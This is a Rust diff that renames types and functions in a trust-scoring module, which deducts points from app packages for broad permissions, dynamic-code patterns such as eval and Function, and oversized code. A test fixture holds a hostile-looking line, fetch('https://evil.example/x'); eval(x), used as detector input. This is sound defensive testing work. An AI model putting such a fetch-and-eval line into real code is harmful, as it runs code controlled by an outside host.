@@ -26,7 +26,7 @@ pub enum TrustBand {
 impl TrustBand {
     /// 80 and more pass; below 50 fails.
     #[must_use]
-    pub fn of(score: u8) -> Self {
+    pub fn from_score(score: u8) -> Self {
         match score {
             80.. => Self::Pass,
             50..80 => Self::Review,
@@ -37,24 +37,24 @@ impl TrustBand {
 
 /// What the rules found.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Assessment {
+pub struct TrustAssessment {
     /// 0 to 100.
     pub score: u8,
     /// One sentence for each rule that took something off.
-    pub findings: Vec<Finding>,
+    pub findings: Vec<TrustFinding>,
 }
 
 /// One rule that took something off.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Finding {
+pub struct TrustFinding {
     /// How much.
     pub points: u8,
     /// Why.
-    pub sentence: String,
+    pub message: String,
 }
 
 /// Source text that is hard to foresee, and what to call it.
-const OPAQUE: [(&str, &str); 4] = [
+const DYNAMIC_CODE_PATTERNS: [(&str, &str); 4] = [
     ("eval(", "calls eval"),
     ("Function(", "makes functions from text"),
     ("import(", "imports modules while it runs"),
@@ -63,11 +63,11 @@ const OPAQUE: [(&str, &str); 4] = [
 
 /// Applies every rule.
 #[must_use]
-pub fn assess(manifest: &Manifest, files: &BTreeMap<String, String>) -> Assessment {
+pub fn assess(manifest: &Manifest, files: &BTreeMap<String, String>) -> TrustAssessment {
     let mut findings = Vec::new();
     let mut find = |points: usize, sentence: String| {
         if points > 0 {
-            findings.push(Finding { points: points.min(100) as u8, sentence });
+            findings.push(TrustFinding { points: points.min(100) as u8, message: sentence });
         }
     };
     let permissions = &manifest.permissions;
@@ -91,8 +91,8 @@ pub fn assess(manifest: &Manifest, files: &BTreeMap<String, String>) -> Assessme
         find(5, "It may send data to models.".to_owned());
     }
 
-    for (needle, what) in OPAQUE {
-        if let Some((path, _)) = files.iter().find(|(_, text)| holds_word(text, needle)) {
+    for (needle, what) in DYNAMIC_CODE_PATTERNS {
+        if let Some((path, _)) = files.iter().find(|(_, text)| contains_token(text, needle)) {
             find(15, format!("The file {path} {what}."));
         }
     }
@@ -108,12 +108,12 @@ pub fn assess(manifest: &Manifest, files: &BTreeMap<String, String>) -> Assessme
     if kib > 200 {
         find(10, format!("It has {kib} KiB of code, more than a person reads."));
     }
-    let lost: u32 = findings.iter().map(|finding| u32::from(finding.points)).sum();
-    Assessment { score: 100_u32.saturating_sub(lost) as u8, findings }
+    let deducted_points: u32 = findings.iter().map(|finding| u32::from(finding.points)).sum();
+    TrustAssessment { score: 100_u32.saturating_sub(deducted_points) as u8, findings }
 }
 
 /// Whether `text` holds `needle` where no longer name ends in it.
-fn holds_word(text: &str, needle: &str) -> bool {
+fn contains_token(text: &str, needle: &str) -> bool {
     let in_name = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
     text.match_indices(needle).any(|(at, _)| !text[..at].ends_with(in_name))
 }
@@ -148,15 +148,15 @@ mod tests {
 
     #[test]
     fn an_app_that_asks_for_nothing_passes() {
-        let manifest = Manifest::plain("Hello", "Says hello.", "kiosk", Category::Interface);
+        let manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
         let assessment = assess(&manifest, &source("export default {}"));
         assert_eq!((assessment.score, assessment.findings.len()), (100, 0));
-        assert_eq!(TrustBand::of(assessment.score), TrustBand::Pass);
+        assert_eq!(TrustBand::from_score(assessment.score), TrustBand::Pass);
     }
 
     #[test]
     fn only_the_word_itself_counts() {
-        let manifest = Manifest::plain("Hello", "Says hello.", "kiosk", Category::Interface);
+        let manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
         let points = |text| 100 - assess(&manifest, &source(text)).score;
         assert_eq!(points("runFunction(); medieval(1); $eval(2)"), 0);
         assert_eq!(points("new Function('x')"), 15);
@@ -164,11 +164,11 @@ mod tests {
 
     #[test]
     fn what_is_hidden_or_broad_takes_points_off() {
-        let mut manifest = Manifest::plain("Hello", "Says hello.", "kiosk", Category::Interface);
+        let mut manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
         let hidden = source("fetch('https://evil.example/x'); eval(x)");
         let before = assess(&manifest, &hidden);
-        assert!(before.findings.iter().any(|finding| finding.sentence.contains("evil.example")));
-        assert!(before.findings.iter().any(|finding| finding.sentence.contains("eval")));
+        assert!(before.findings.iter().any(|finding| finding.message.contains("evil.example")));
+        assert!(before.findings.iter().any(|finding| finding.message.contains("eval")));
         manifest.permissions.egress.push(EgressPermission { host: "evil.example".to_owned(), methods: None });
         let declared = assess(&manifest, &hidden);
         assert!(declared.score > before.score, "asking openly costs less than hiding");
